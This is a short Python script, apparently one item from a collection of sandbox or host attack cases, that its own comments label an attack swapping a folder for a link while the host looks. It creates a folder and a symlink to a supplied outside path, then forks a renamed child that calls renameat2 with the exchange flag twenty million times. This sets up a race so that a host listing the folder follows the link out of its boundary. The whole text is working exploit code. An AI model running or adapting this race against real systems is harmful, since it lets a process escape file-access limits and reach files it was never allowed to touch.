# attack: Swaps a folder for a link while the host looks.
# kind: session
# seen: listing
import os
import ctypes
os.mkdir("folder")
open("folder/table.csv", "w").close()
os.symlink(argument["outside"], "link")
libc = ctypes.CDLL(None)
if os.fork() == 0:
    libc.prctl(15, argument["marker"].encode(), 0, 0, 0)
    for _ in range(20_000_000):
        libc.renameat2(-100, b"folder", -100, b"link", 2)
    os._exit(0)
